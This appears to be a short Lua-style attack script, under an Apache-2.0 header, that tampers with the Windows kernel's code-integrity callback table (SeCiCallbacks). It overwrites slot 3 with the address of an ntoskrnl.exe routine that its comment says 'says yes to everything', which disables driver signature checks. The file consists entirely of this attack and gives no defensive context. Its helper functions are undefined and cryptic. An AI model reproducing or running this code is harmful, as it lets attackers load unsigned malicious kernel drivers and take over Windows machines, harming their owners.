-- SPDX-License-Identifier: Apache-2.0
-- One function of SeCiCallbacks is a function of the kernel that says yes to everything.
desktop()
local slot = callback("ci", 3)
write(slot, string.pack("<I8", routine("ntoskrnl.exe")))
breaks("C05")
